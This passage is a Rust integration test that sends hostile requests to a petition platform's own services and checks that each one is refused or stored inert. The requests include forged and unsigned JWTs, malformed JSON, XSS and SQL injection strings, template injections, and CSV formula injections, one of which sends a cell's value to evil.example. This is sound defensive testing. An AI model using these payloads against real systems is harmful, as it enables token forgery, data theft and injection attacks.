//! The bad-input catalogue: hostile requests against the real services of one [`TestPlatform`].
//!
//! Every case is (name, request, expected status, expected problem `code`) and declares what it
//! may change. Before and after each case the runner snapshots the event log
//! (`count(*)`, `max(global_position)`) and the public state of a reference petition (its count
//! and status through the query API, once the projector has caught up with the log); a case
//! that is not meant to change state must leave both exactly as they were. Every reply must be
//! the expected status with the security headers; problems must be `application/problem+json`
//! with the expected `code`; no reply of the whole run may be a 5xx.
//!
//! Needs the local servers: `scripts/dev-env.sh`, then `source .data/env`.

#![allow(clippy::unwrap_used)]

use std::collections::BTreeMap;
use std::time::{Duration, SystemTime, UNIX_EPOCH};

use reqwest::header::{self, HeaderMap, HeaderValue};
use reqwest::{Method, RequestBuilder, StatusCode};
use serde_json::{Value, json};
use time::OffsetDateTime;
use tyndau_ids::Region;
use tyndau_testkit::{
    AUDIENCE, AUTHOR, ISSUER, PATIENCE, TestPlatform, adult_iin, eventually, hmac_sha256, petition_body,
};

const PROBLEM_JSON: &str = "application/problem+json";
/// How long the projector may take to catch up with the event log after a case.
const CATCH_UP: Duration = Duration::from_secs(30);

// ----- the catalogue's vocabulary -----

/// What a case may change: the exact number of new events and the exact change of the
/// reference petition's public count. Its public status never changes within a case.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
struct Effect {
    events: i64,
    count: i64,
}

const UNCHANGED: Effect = Effect { events: 0, count: 0 };
/// One new event that does not concern the reference petition (a draft, a submission…).
const ONE_EVENT: Effect = Effect { events: 1, count: 0 };
/// One signature on the reference petition.
const SIGNED: Effect = Effect { events: 1, count: 1 };
/// One withdrawal from the reference petition.
const WITHDRAWN: Effect = Effect { events: 1, count: -1 };

/// What to do once a successful case passed.
enum Then {
    Nothing,
    /// The reply names a drafted petition: submit and publish it, then its public detail must
    /// return `content` exactly (every string identical, in parsed and in raw JSON).
    RoundTrip {
        content: Value,
    },
}

struct Case {
    name: String,
    request: RequestBuilder,
    status: u16,
    /// `Some` for a problem reply, `None` for a success.
    code: Option<&'static str>,
    effect: Effect,
    then: Then,
}

/// A refusal: a problem with this status and code, and nothing changed.
fn refused(name: impl Into<String>, request: RequestBuilder, status: u16, code: &'static str) -> Case {
    Case {
        name: name.into(),
        request,
        status,
        code: Some(code),
        effect: UNCHANGED,
        then: Then::Nothing,
    }
}

/// A success with this status and effect.
fn accepted(name: impl Into<String>, request: RequestBuilder, status: u16, effect: Effect) -> Case {
    Case {
        name: name.into(),
        request,
        status,
        code: None,
        effect,
        then: Then::Nothing,
    }
}

/// A reply, read whole.
#[derive(Debug)]
struct Response {
    status: StatusCode,
    headers: HeaderMap,
    raw: Vec<u8>,
    json: Option<Value>,
}

impl Response {
    fn content_type(&self) -> Option<&str> {
        self.headers
            .get(header::CONTENT_TYPE)
            .and_then(|v| v.to_str().ok())
    }

    fn code(&self) -> Option<&str> {
        self.json.as_ref().and_then(|j| j["code"].as_str())
    }

    fn describe(&self) -> String {
        let body = String::from_utf8_lossy(&self.raw);
        let body: String = body.chars().take(400).collect();
        format!("{} {:?} {body}", self.status, self.content_type())
    }
}

async fn fetch(request: RequestBuilder) -> Response {
    let response = request.send().await.expect("the request reaches the server");
    let status = response.status();
    let headers = response.headers().clone();
    let raw = response
        .bytes()
        .await
        .expect("the reply body is readable")
        .to_vec();
    let json = serde_json::from_slice(&raw).ok();
    Response {
        status,
        headers,
        raw,
        json,
    }
}

/// The public state the runner compares around every case.
#[derive(Clone, Debug, PartialEq, Eq)]
struct Snapshot {
    events: i64,
    max_position: Option<i64>,
    count: Option<i64>,
    status: Option<String>,
}

#[derive(Default)]
struct Stats {
    cases: usize,
    by_status: BTreeMap<u16, usize>,
    by_code: BTreeMap<String, usize>,
    /// Every reply of the run (cases, follow-ups, snapshots).
    replies: usize,
    server_errors: Vec<String>,
}

struct Runner<'a> {
    platform: &'a TestPlatform,
    reference: String,
    baseline: Snapshot,
    stats: Stats,
    failures: Vec<String>,
    /// Set once the projector failed to catch up: later waits are short, not 30 s each.
    projector_stuck: bool,
}

impl<'a> Runner<'a> {
    async fn new(platform: &'a TestPlatform, reference: String) -> Self {
        let mut runner = Self {
            platform,
            reference,
            baseline: Snapshot {
                events: 0,
                max_position: None,
                count: None,
                status: None,
            },
            stats: Stats::default(),
            failures: Vec::new(),
            projector_stuck: false,
        };
        runner.baseline = runner.snapshot("baseline").await;
        runner
    }

    /// Sends a request outside the catalogue (follow-ups, snapshots); still scanned for 5xx.
    async fn send(&mut self, what: &str, request: RequestBuilder) -> Response {
        let response = fetch(request).await;
        self.observe(what, &response);
        response
    }

    fn observe(&mut self, what: &str, response: &Response) {
        self.stats.replies += 1;
        if response.status.is_server_error() {
            self.stats
                .server_errors
                .push(format!("{what}: {}", response.describe()));
        }
    }

    fn fail(&mut self, message: String) {
        eprintln!("FAILED {message}");
        self.failures.push(message);
    }

    /// Waits until the thresholds projector has applied every event in the log.
    async fn catch_up(&mut self, what: &str) {
        let timeout = if self.projector_stuck {
            Duration::from_secs(2)
        } else {
            CATCH_UP
        };
        let started = std::time::Instant::now();
        loop {
            if projector_caught_up(self.platform).await {
                return;
            }
            if started.elapsed() > timeout {
                if !self.projector_stuck {
                    self.fail(format!(
                        "{what}: the projector did not catch up with the event log within {timeout:?}"
                    ));
                }
                self.projector_stuck = true;
                return;
            }
            tokio::time::sleep(Duration::from_millis(20)).await;
        }
    }

    async fn snapshot(&mut self, what: &str) -> Snapshot {
        self.catch_up(what).await;
        let (events, max_position): (i64, Option<i64>) =
            tyndau_db::sqlx::query_as("SELECT count(*), max(global_position) FROM events")
                .fetch_one(self.platform.pool())
                .await
                .unwrap();
        let count_path = format!("{}/petitions/{}/count", self.platform.query_url(), self.reference);
        let count = self.send(what, self.platform.client().get(count_path)).await;
        let detail_path = format!("{}/petitions/{}", self.platform.query_url(), self.reference);
        let detail = self.send(what, self.platform.client().get(detail_path)).await;
        Snapshot {
            events,
            max_position,
            count: count.json.and_then(|j| j["signatures"].as_i64()),
            status: detail.json.and_then(|j| j["status"].as_str().map(str::to_owned)),
        }
    }

    /// Takes a fresh baseline after a deliberate change outside the catalogue.
    async fn rebaseline(&mut self, what: &str) {
        self.baseline = self.snapshot(what).await;
    }

    /// Checks one reply against its case; records every mismatch.
    fn judge(&mut self, name: &str, status: u16, code: Option<&str>, response: &Response) -> bool {
        self.stats.cases += 1;
        *self.stats.by_status.entry(response.status.as_u16()).or_default() += 1;
        let seen_code = response.code().unwrap_or("-").to_owned();
        *self.stats.by_code.entry(seen_code).or_default() += 1;
        self.observe(name, response);

        let mut problems = Vec::new();
        if response.status.is_server_error() {
            problems.push(format!("a 5xx reply: {}", response.describe()));
        }
        if response.status.as_u16() != status {
            problems.push(format!("expected status {status}, got {}", response.describe()));
        }
        if response.headers.get(header::X_CONTENT_TYPE_OPTIONS) != Some(&HeaderValue::from_static("nosniff"))
        {
            problems.push("no `X-Content-Type-Options: nosniff`".to_owned());
        }
        let csp = response
            .headers
            .get(header::CONTENT_SECURITY_POLICY)
            .and_then(|v| v.to_str().ok())
            .unwrap_or("");
        if !csp
            .split(';')
            .any(|directive| directive.trim() == "default-src 'none'")
        {
            problems.push(format!("no CSP `default-src 'none'` (got {csp:?})"));
        }
        match code {
            Some(code) => {
                if response.content_type() != Some(PROBLEM_JSON) {
                    problems.push(format!("not {PROBLEM_JSON}: {}", response.describe()));
                }
                if response.code() != Some(code) {
                    problems.push(format!("expected code {code}, got {}", response.describe()));
                }
                let body_status = response.json.as_ref().and_then(|j| j["status"].as_u64());
                if body_status != Some(u64::from(response.status.as_u16())) {
                    problems.push(format!("the problem's `status` is {body_status:?}"));
                }
            }
            None => {
                if response.content_type() != Some("application/json") {
                    problems.push(format!("not application/json: {}", response.describe()));
                }
            }
        }
        let passed = problems.is_empty();
        for problem in problems {
            self.fail(format!("{name}: {problem}"));
        }
        passed
    }

    /// Compares the state after a case with the baseline and the case's declared effect.
    async fn verify_effect(&mut self, name: &str, effect: Effect) {
        let after = self.snapshot(name).await;
        let before = self.baseline.clone();
        let events = after.events - before.events;
        if events != effect.events {
            self.fail(format!(
                "{name}: {events} new events, expected {} ({before:?} → {after:?})",
                effect.events
            ));
        }
        if effect.events == 0 && after.max_position != before.max_position {
            self.fail(format!(
                "{name}: the log's max position moved ({before:?} → {after:?})"
            ));
        }
        let expected_count = before.count.map(|c| c + effect.count);
        if after.count != expected_count {
            self.fail(format!(
                "{name}: the reference count is {:?}, expected {expected_count:?}",
                after.count
            ));
        }
        if after.status != before.status {
            self.fail(format!(
                "{name}: the reference status changed ({:?} → {:?})",
                before.status, after.status
            ));
        }
        self.baseline = after;
    }

    async fn run(&mut self, case: Case) {
        let response = fetch(case.request).await;
        let passed = self.judge(&case.name, case.status, case.code, &response);
        self.verify_effect(&case.name, case.effect).await;
        if passed && let Then::RoundTrip { content } = case.then {
            self.round_trip(&case.name, &response, &content).await;
            self.rebaseline(&case.name).await;
        }
    }

    async fn run_all(&mut self, cases: Vec<Case>) {
        for case in cases {
            self.run(case).await;
        }
    }

    /// Sends all requests at once: exactly one may succeed with `status`, every other must be
    /// the problem `(conflict, code)`; the state then changes by `effect` exactly once.
    async fn race(
        &mut self,
        name: &str,
        requests: Vec<RequestBuilder>,
        status: u16,
        refusal: (u16, &'static str),
        effect: Effect,
    ) {
        let total = requests.len();
        let responses = futures::future::join_all(requests.into_iter().map(fetch)).await;
        let mut winners = 0;
        for (index, response) in responses.iter().enumerate() {
            let case = format!("{name} #{index}");
            if response.status.as_u16() == status {
                winners += 1;
                self.judge(&case, status, None, response);
            } else {
                self.judge(&case, refusal.0, Some(refusal.1), response);
            }
        }
        if winners != 1 {
            self.fail(format!(
                "{name}: {winners} of {total} succeeded, expected exactly one"
            ));
        }
        self.verify_effect(name, effect).await;
    }

    async fn round_trip(&mut self, name: &str, drafted: &Response, content: &Value) {
        let id = drafted
            .json
            .as_ref()
            .and_then(|j| j["petition_id"].as_str())
            .unwrap()
            .to_owned();
        let author = self.platform.citizen_token(AUTHOR);
        let moderator = self.platform.moderator_token();
        let command = |path: String, token: &str| self.platform.command(Method::POST, &path, Some(token));
        let submit = command(format!("/petitions/{id}/submit"), &author);
        let publish = command(format!("/petitions/{id}/publish"), &moderator);
        for (step, request) in [("submit", submit), ("publish", publish)] {
            let reply = self.send(name, request).await;
            if reply.status != StatusCode::OK {
                self.fail(format!("{name}: {step} for the round trip: {}", reply.describe()));
                return;
            }
        }
        let path = format!("{}/petitions/{id}", self.platform.query_url());
        let started = std::time::Instant::now();
        let detail = loop {
            let reply = self.send(name, self.platform.client().get(&path)).await;
            if reply.status == StatusCode::OK {
                break reply;
            }
            if started.elapsed() > CATCH_UP {
                self.fail(format!(
                    "{name}: the petition never became public: {}",
                    reply.describe()
                ));
                return;
            }
            tokio::time::sleep(Duration::from_millis(20)).await;
        };
        // Answered as inert JSON, never as something a browser would render or sniff.
        self.judge(&format!("{name} (public detail)"), 200, None, &detail);
        let shown = &detail.json.as_ref().unwrap()["content"];
        let raw = String::from_utf8_lossy(&detail.raw).into_owned();
        for (language, texts) in content.as_object().unwrap() {
            for (field, written) in texts.as_object().unwrap() {
                if shown[language][field] != *written {
                    self.fail(format!(
                        "{name}: {language}.{field} came back as {} instead of {written}",
                        shown[language][field]
                    ));
                }
                // Byte for byte in the JSON text too: the same escaping, nothing added.
                let encoded = serde_json::to_string(written).unwrap();
                if !raw.contains(&encoded) {
                    self.fail(format!(
                        "{name}: {language}.{field} is not in the raw JSON as {encoded}"
                    ));
                }
            }
        }
    }

    fn report(&self) {
        eprintln!("\n===== hostile input catalogue =====");
        eprintln!("cases run: {}", self.stats.cases);
        eprintln!(
            "replies seen in total (cases, follow-ups, snapshots): {}",
            self.stats.replies
        );
        eprintln!("by status:");
        for (status, n) in &self.stats.by_status {
            eprintln!("  {status}: {n}");
        }
        eprintln!("by problem code (`-` = not a problem):");
        for (code, n) in &self.stats.by_code {
            eprintln!("  {code}: {n}");
        }
        eprintln!("5xx replies in the whole run: {}", self.stats.server_errors.len());
        for error in &self.stats.server_errors {
            eprintln!("  {error}");
        }
        eprintln!("failures: {}", self.failures.len());
        for failure in &self.failures {
            eprintln!("  {failure}");
        }
    }
}

/// Every projector has applied the last event of the aggregates it reads.
async fn projector_caught_up(platform: &TestPlatform) -> bool {
    use tyndau_projection::Projection;
    let projectors = [
        (
            tyndau_projector_thresholds::Thresholds::NAME,
            tyndau_projector_thresholds::Thresholds::AGGREGATES,
        ),
        (
            tyndau_projector_consultations::Consultations::NAME,
            tyndau_projector_consultations::Consultations::AGGREGATES,
        ),
    ];
    for (name, aggregates) in projectors {
        let aggregates: Vec<&str> = aggregates.to_vec();
        let last: Option<(i64, i64)> = tyndau_db::sqlx::query_as(
            "SELECT tx_id::text::bigint, global_position FROM events WHERE aggregate_type = ANY($1) \
             ORDER BY tx_id DESC, global_position DESC LIMIT 1",
        )
        .bind(&aggregates)
        .fetch_optional(platform.pool())
        .await
        .unwrap();
        let applied: Option<(i64, i64)> = tyndau_db::sqlx::query_as(
            "SELECT tx_id::text::bigint, global_position FROM projector_checkpoint WHERE projector = $1",
        )
        .bind(name)
        .fetch_optional(platform.pool())
        .await
        .unwrap();
        let caught_up = match (last, applied) {
            (None, _) => true,
            (Some(last), Some(applied)) => applied >= last,
            (Some(_), None) => false,
        };
        if !caught_up {
            return false;
        }
    }
    true
}

// ----- tokens -----

fn b64url(bytes: &[u8]) -> String {
    const ALPHABET: &[u8; 64] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_";
    let mut out = String::with_capacity(bytes.len() * 4 / 3 + 3);
    for chunk in bytes.chunks(3) {
        let n = chunk
            .iter()
            .enumerate()
            .fold(0u32, |n, (i, b)| n | u32::from(*b) << (16 - 8 * i));
        for i in 0..=chunk.len() {
            out.push(char::from(ALPHABET[(n >> (18 - 6 * i) & 63) as usize]));
        }
    }
    out
}

fn b64url_decode(text: &str) -> Vec<u8> {
    let value = |c: u8| match c {
        b'A'..=b'Z' => u32::from(c - b'A'),
        b'a'..=b'z' => u32::from(c - b'a') + 26,
        b'0'..=b'9' => u32::from(c - b'0') + 52,
        b'-' => 62,
        b'_' => 63,
        _ => panic!("not base64url: {text}"),
    };
    let mut out = Vec::new();
    for chunk in text.as_bytes().chunks(4) {
        let n = chunk
            .iter()
            .enumerate()
            .fold(0u32, |n, (i, c)| n | value(*c) << (18 - 6 * i));
        for i in 0..chunk.len() - 1 {
            out.push((n >> (16 - 8 * i)) as u8);
        }
    }
    out
}

fn now() -> u64 {
    SystemTime::now().duration_since(UNIX_EPOCH).unwrap().as_secs()
}

/// A change to a token's header or claims.
type Edit = Box<dyn FnOnce(&mut serde_json::Map<String, Value>)>;

/// Tokens crafted with the platform's trusted key (or without it).
struct Forge<'a> {
    platform: &'a TestPlatform,
    kid: String,
}

impl<'a> Forge<'a> {
    fn new(platform: &'a TestPlatform) -> Self {
        let token = platform.citizen_token(0);
        let header: Value = serde_json::from_slice(&b64url_decode(token.split('.').next().unwrap())).unwrap();
        let kid = header["kid"].as_str().unwrap().to_owned();
        Self { platform, kid }
    }

    fn header(&self) -> Value {
        json!({ "alg": "EdDSA", "typ": "JWT", "kid": self.kid })
    }

    /// Valid claims of an adult citizen of Almaty city, number `n`.
    fn claims(n: u32) -> Value {
        let now = now();
        json!({
            "iss": ISSUER, "aud": AUDIENCE, "sub": format!("hostile-{n}"),
            "iat": now, "nbf": now, "exp": now + 900,
            "roles": ["citizen"], "iin": adult_iin(n).expose_digits(), "region": Region::Almaty.code(),
        })
    }

    fn sign(&self, header: &Value, claims: &Value) -> String {
        self.platform.signer().sign_parts(header, claims).unwrap()
    }

    /// Valid claims of citizen `n`, changed by `edit`, signed with the trusted key.
    fn citizen_with(&self, n: u32, edit: impl FnOnce(&mut serde_json::Map<String, Value>)) -> String {
        let mut claims = Self::claims(n);
        edit(claims.as_object_mut().unwrap());
        self.sign(&self.header(), &claims)
    }

    /// The trusted header changed by `edit`, over valid claims of citizen `n`.
    fn header_with(&self, n: u32, edit: impl FnOnce(&mut serde_json::Map<String, Value>)) -> String {
        let mut header = self.header();
        edit(header.as_object_mut().unwrap());
        self.sign(&header, &Self::claims(n))
    }

    /// An unsigned token (`alg` as given, empty signature).
    fn unsigned(&self, alg: &str, n: u32) -> String {
        let header = json!({ "alg": alg, "typ": "JWT", "kid": self.kid });
        format!(
            "{}.{}.",
            b64url(header.to_string().as_bytes()),
            b64url(Self::claims(n).to_string().as_bytes())
        )
    }

    /// An HS256 token keyed with `secret` (the classic public-key-as-HMAC-secret confusion).
    fn hs256(&self, alg: &str, secret: &[u8], n: u32) -> String {
        let header = json!({ "alg": alg, "typ": "JWT", "kid": self.kid });
        let input = format!(
            "{}.{}",
            b64url(header.to_string().as_bytes()),
            b64url(Self::claims(n).to_string().as_bytes())
        );
        let signature = hmac_sha256(secret, input.as_bytes());
        format!("{input}.{}", b64url(&signature))
    }

    /// What the platform publishes as its key set, as far as a client can know it: the kid is
    /// real; the testkit does not expose the public key itself. The verifier refuses `HS256`
    /// from the header before it touches any key, so the secret's exact bytes do not matter.
    fn jwks_text(&self) -> String {
        json!({ "keys": [{ "kty": "OKP", "crv": "Ed25519", "kid": self.kid, "alg": "EdDSA",
            "use": "sig", "x": b64url(&[0u8; 32]) }] })
        .to_string()
    }
}

// ----- request helpers -----

struct Api<'a> {
    platform: &'a TestPlatform,
}

impl Api<'_> {
    fn command(&self, method: Method, path: &str, token: Option<&str>) -> RequestBuilder {
        self.platform.command(method, path, token)
    }

    fn post_json(&self, path: &str, token: &str, body: &Value) -> RequestBuilder {
        self.command(Method::POST, path, Some(token)).json(body)
    }

    /// POST with a raw body and content type (none when `content_type` is `None`).
    fn post_raw(&self, path: &str, token: &str, content_type: Option<&str>, body: Vec<u8>) -> RequestBuilder {
        let request = self.command(Method::POST, path, Some(token)).body(body);
        match content_type {
            Some(content_type) => request.header(header::CONTENT_TYPE, content_type),
            None => request,
        }
    }

    /// POST /petitions/{id}/signature with a raw `Authorization` header value.
    fn sign_with_authorization(&self, petition: &str, authorization: &[u8]) -> RequestBuilder {
        self.command(Method::POST, &format!("/petitions/{petition}/signature"), None)
            .header(
                header::AUTHORIZATION,
                HeaderValue::from_bytes(authorization).unwrap(),
            )
    }

    fn sign(&self, petition: &str, token: &str) -> RequestBuilder {
        self.command(
            Method::POST,
            &format!("/petitions/{petition}/signature"),
            Some(token),
        )
    }

    fn withdraw(&self, petition: &str, token: &str) -> RequestBuilder {
        self.command(
            Method::DELETE,
            &format!("/petitions/{petition}/signature"),
            Some(token),
        )
    }

    fn query(&self, method: Method, path: &str) -> RequestBuilder {
        self.platform
            .client()
            .request(method, format!("{}{path}", self.platform.query_url()))
    }

    fn get(&self, path: &str) -> RequestBuilder {
        self.query(Method::GET, path)
    }
}

/// A petition body whose three texts in both languages are `payload` (for stored-as-written).
fn content_of(payload: &str) -> Value {
    let texts = json!({ "title": payload, "text": payload, "request": payload });
    json!({ "kk": texts.clone(), "ru": texts })
}

fn with_content(addressee: &str, content: Value) -> Value {
    json!({ "addressee": addressee, "content": content })
}

/// `petition_body` with one field of one language replaced.
fn petition_with(language: &str, field: &str, value: Value) -> Value {
    let mut body = petition_body("akimat-almaty");
    body["content"][language][field] = value;
    body
}

fn cursor(json: &Value) -> String {
    b64url(json.to_string().as_bytes())
}

fn answer_body() -> Value {
    json!({ "decision": "satisfied", "text": { "kk": "Орындалады.", "ru": "Будет выполнено." } })
}

#[tokio::test(flavor = "multi_thread", worker_threads = 4)]
async fn the_hostile_input_catalogue_changes_nothing_it_should_not() {
    let platform = TestPlatform::spawn().await;
    let api = Api { platform: &platform };
    let forge = Forge::new(&platform);

    // ----- setup: a reference petition, open for signatures, and petitions in other states -----
    let reference = platform.open_petition("akimat-almaty").await;
    let author = platform.citizen_token(AUTHOR);
    let moderator = platform.moderator_token();
    let draft = platform.draft(&author, "akimat-almaty").await;
    let replayed_draft = platform.draft(&author, "akimat-almaty").await;
    let in_moderation = platform.draft(&author, "akimat-almaty").await;
    let reply = platform
        .post(&format!("/petitions/{in_moderation}/submit"), Some(&author), None)
        .await;
    assert_eq!(reply.status, StatusCode::OK, "{reply:?}");
    let published_twice = platform.draft(&author, "akimat-almaty").await;
    let reply = platform
        .post(
            &format!("/petitions/{published_twice}/submit"),
            Some(&author),
            None,
        )
        .await;
    assert_eq!(reply.status, StatusCode::OK, "{reply:?}");
    let unknown = uuid::Uuid::now_v7().to_string();
    let citizen = |n: u32| platform.citizen_token(n);
    let signer = citizen(1);
    let petitions = "/petitions";
    let sign_path = format!("/petitions/{reference}/signature");

    let mut runner = Runner::new(&platform, reference.clone()).await;
    assert_eq!(
        runner.baseline.status.as_deref(),
        Some("open"),
        "{:?}",
        runner.baseline
    );
    assert_eq!(runner.baseline.count, Some(0), "{:?}", runner.baseline);

    // ----- bodies -----
    let valid = petition_body("akimat-almaty");
    let valid_bytes = serde_json::to_vec(&valid).unwrap();
    let json_type = Some("application/json");
    let deep = format!(
        "{{\"addressee\":\"akimat-almaty\",\"content\":{{\"kk\":{}{}}}}}",
        "[".repeat(3_000),
        "]".repeat(3_000)
    );
    let deep_top = format!("{}{}", "[".repeat(3_000), "]".repeat(3_000));
    let mut oversized = petition_body("akimat-almaty");
    oversized["content"]["kk"]["text"] = json!("ы".repeat(40_000));
    let mut invalid_utf8 = br#"{"addressee":"akimat-almaty","content":{"kk":{"title":""#.to_vec();
    invalid_utf8.extend_from_slice(&[0xC3, 0x28, 0xFF, 0xFE]);
    invalid_utf8.extend_from_slice(br#"","text":"t","request":"r"}}}"#);
    let mut unknown_field = petition_body("akimat-almaty");
    unknown_field["author"] = json!("someone-else");
    let mut unknown_nested = petition_body("akimat-almaty");
    unknown_nested["content"]["kk"]["signatures"] = json!(1_000_000);
    let mut missing_content = petition_body("akimat-almaty");
    missing_content.as_object_mut().unwrap().remove("content");
    let mut missing_request = petition_body("akimat-almaty");
    missing_request["content"]["ru"]
        .as_object_mut()
        .unwrap()
        .remove("request");
    let mut unknown_language = petition_body("akimat-almaty");
    unknown_language["content"]["de"] = unknown_language["content"]["ru"].clone();
    let english_only = with_content(
        "akimat-almaty",
        json!({ "en": { "title": "More benches", "text": "Parks lack benches.", "request": "Install benches." } }),
    );
    let mut padded_addressee = petition_body("akimat-almaty");
    padded_addressee["addressee"] = json!(" akimat-almaty ");
    let look_alike = json!({ "addressee": "\u{430}kimat-almaty", "content": valid["content"] });
    let number_addressee = json!({ "addressee": 42, "content": valid["content"] });
    let string_content = json!({ "addressee": "akimat-almaty", "content": "text" });
    let trailing_garbage = [valid_bytes.as_slice(), b"}{"].concat();
    let ru = valid["content"]["ru"].to_string();
    let repeated_top =
        format!(r#"{{"addressee":"akimat-almaty","addressee":"akimat-almaty","content":{{"ru":{ru}}}}}"#)
            .into_bytes();
    // The last "ru" would win silently in a map; another parser could keep the first.
    let repeated_inside = format!(
        r#"{{"addressee":"akimat-almaty","content":{{"ru":{ru},"ru":{}}}}}"#,
        ru.replace("\"title\":\"", "\"title\":\"Other ")
    )
    .into_bytes();

    let post_petition = |body: &Value| api.post_json(petitions, &author, body);
    let raw = |content_type: Option<&str>, body: &[u8]| {
        api.post_raw(petitions, &author, content_type, body.to_vec())
    };
    #[rustfmt::skip]
    let bodies = vec![
        refused("body: malformed JSON", raw(json_type, b"{addressee: 'akimat-almaty'}"), 400, "malformed_json"),
        refused("body: truncated JSON", raw(json_type, &valid_bytes[..valid_bytes.len() / 2]), 400, "malformed_json"),
        refused("body: empty", raw(json_type, b""), 400, "malformed_json"),
        refused("body: trailing garbage", raw(json_type, &trailing_garbage), 400, "malformed_json"),
        refused("body: a JSON array", raw(json_type, b"[]"), 422, "invalid_body"),
        refused("body: JSON null", raw(json_type, b"null"), 422, "invalid_body"),
        refused("body: a JSON string", raw(json_type, b"\"petition\""), 422, "invalid_body"),
        refused("body: 3000 levels of nesting in a field", raw(json_type, deep.as_bytes()), 422, "invalid_body"),
        refused("body: 3000 levels of nesting at the top", raw(json_type, deep_top.as_bytes()), 422, "invalid_body"),
        refused("body: over 64 KiB", post_petition(&oversized), 413, "body_too_large"),
        refused("body: invalid UTF-8", raw(json_type, &invalid_utf8), 400, "malformed_json"),
        refused("body: text/plain", raw(Some("text/plain"), &valid_bytes), 415, "unsupported_media_type"),
        refused("body: form-urlencoded", raw(Some("application/x-www-form-urlencoded"), b"addressee=akimat-almaty"), 415, "unsupported_media_type"),
        refused("body: no content type", raw(None, &valid_bytes), 415, "unsupported_media_type"),
        refused("body: unknown top-level field", post_petition(&unknown_field), 422, "invalid_body"),
        refused("body: a key repeated at the top", raw(json_type, &repeated_top), 422, "invalid_body"),
        refused("body: a key repeated inside content", raw(json_type, &repeated_inside), 422, "invalid_body"),
        refused("body: unknown nested field", post_petition(&unknown_nested), 422, "invalid_body"),
        refused("body: content is a string", post_petition(&string_content), 422, "invalid_body"),
        refused("body: a number for the addressee", post_petition(&number_addressee), 422, "invalid_body"),
        refused("body: a number for a title", post_petition(&petition_with("kk", "title", json!(42))), 422, "invalid_body"),
        refused("body: an array for a text", post_petition(&petition_with("ru", "text", json!(["a", "b"]))), 422, "invalid_body"),
        refused("body: null for a request", post_petition(&petition_with("ru", "request", Value::Null)), 422, "invalid_body"),
        refused("body: a 2,000-character title", post_petition(&petition_with("kk", "title", json!("Ә".repeat(2_000)))), 422, "invalid_input"),
        refused("body: a 10,001-character text", post_petition(&petition_with("ru", "text", json!("я".repeat(10_001)))), 422, "invalid_input"),
        refused("body: a Cyrillic look-alike in the addressee", post_petition(&look_alike), 422, "unknown_body"),
        refused("body: an unknown addressee", post_petition(&petition_body("akimat-atlantis")), 422, "unknown_body"),
        refused("body: an upper-case addressee", post_petition(&petition_body("AKIMAT-ALMATY")), 422, "unknown_body"),
        refused("body: a padded addressee", post_petition(&padded_addressee), 422, "unknown_body"),
        refused("body: an empty title", post_petition(&petition_with("kk", "title", json!(""))), 422, "invalid_input"),
        refused("body: a whitespace-only title", post_petition(&petition_with("kk", "title", json!(" \t\n "))), 422, "empty_text"),
        refused("body: a whitespace-only text (NBSP, ideographic space)", post_petition(&petition_with("ru", "text", json!("\u{a0}\u{3000}"))), 422, "empty_text"),
        refused("body: missing content", post_petition(&missing_content), 422, "invalid_body"),
        refused("body: missing request", post_petition(&missing_request), 422, "invalid_body"),
        refused("body: empty content", post_petition(&with_content("akimat-almaty", json!({}))), 422, "invalid_input"),
        refused("body: an unknown language key", post_petition(&unknown_language), 422, "invalid_body"),
        refused("body: English only", post_petition(&english_only), 422, "kazakh_or_russian_required"),
    ];
    runner.run_all(bodies).await;

    // ----- stored as written: accepted, then public byte for byte, never executed nor altered -----
    // Control characters other than NUL are accepted and stored as written (the domain trims
    // only the ends); NUL is in the catalogue's last case.
    let payloads = [
        ("HTML script", "<script>alert(1)</script>"),
        ("HTML attribute breakout", "\"><img src=x onerror=alert(1)>"),
        ("SQL", "'; DROP TABLE events; --"),
        (
            "CSV HYPERLINK formula",
            "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
        ),
        ("CSV +cmd", "+cmd|' /C calc'!A0"),
        ("CSV @SUM", "@SUM(1+9)*cmd|' /C calc'!A0"),
        ("CSV -2+3", "-2+3+cmd|' /C calc'!A0"),
        ("template and escapes", "{{7*7}} ${7*7} \\u0000 %00 \\\" \\\\"),
        (
            "control and invisible characters",
            "a\tb\nc\r\nd\u{1b}[31me\u{7}f\u{202e}g\u{200b}h\u{feff}i",
        ),
        ("emoji and combining marks", "👩🏽‍⚖️ Z̷̢͉a̵͓͝l̶̰̈g̷̣̾o"),
    ];
    let stored: Vec<Case> = payloads
        .iter()
        .map(|(name, payload)| {
            let content = content_of(payload);
            let request = post_petition(&with_content("akimat-almaty", content.clone()));
            Case {
                then: Then::RoundTrip { content },
                ..accepted(format!("stored as written: {name}"), request, 201, ONE_EVENT)
            }
        })
        .collect();
    runner.run_all(stored).await;

    // ----- the query API -----
    let long_q = format!("/petitions?q={}", "q".repeat(10_000));
    let newest = |key: i64| cursor(&json!({ "s": "newest", "k": key, "i": unknown }));
    let with_cursor = |cursor: String| format!("/petitions?cursor={cursor}");
    let other_sort = format!("/petitions?sort=most_signed&cursor={}", newest(0));
    let long_cursor = with_cursor("A".repeat(300));
    let get = |path: &str| api.get(path);
    #[rustfmt::skip]
    let queries = vec![
        accepted("query: SQL in q", get("/petitions?q=%27%3B%20DROP%20TABLE%20events%3B%20--"), 200, UNCHANGED),
        accepted("query: OR 1=1 in q", get("/petitions?q=%22)%20OR%201%3D1%20--"), 200, UNCHANGED),
        accepted("query: tsquery operators in q", get("/petitions?q=!!%3A*%26%7C%3C-%3E(%22"), 200, UNCHANGED),
        accepted("query: an empty q", get("/petitions?q="), 200, UNCHANGED),
        refused("query: a 10,000-character q", get(&long_q), 422, "invalid_input"),
        // Regression: NUL used to reach PostgreSQL as a text parameter and fail the query (500).
        refused("query: NUL in q", get("/petitions?q=a%00b"), 422, "invalid_input"),
        refused("query: a truncated UTF-8 sequence in q", get("/petitions?q=%F0%9F%98"), 400, "invalid_query"),
        refused("query: overlong UTF-8 in q", get("/petitions?q=%C0%AF%C0%AF"), 400, "invalid_query"),
        refused("query: invalid UTF-8 in a name", get("/petitions?%FF=1"), 400, "invalid_query"),
        refused("query: an unknown field", get("/petitions?stauts=open"), 400, "invalid_query"),
        refused("query: a duplicated field", get("/petitions?status=open&status=closed"), 400, "invalid_query"),
        refused("query: a bad status", get("/petitions?status=opened"), 400, "invalid_query"),
        refused("query: an upper-case status", get("/petitions?status=OPEN"), 400, "invalid_query"),
        refused("query: a bad sort", get("/petitions?sort=random"), 400, "invalid_query"),
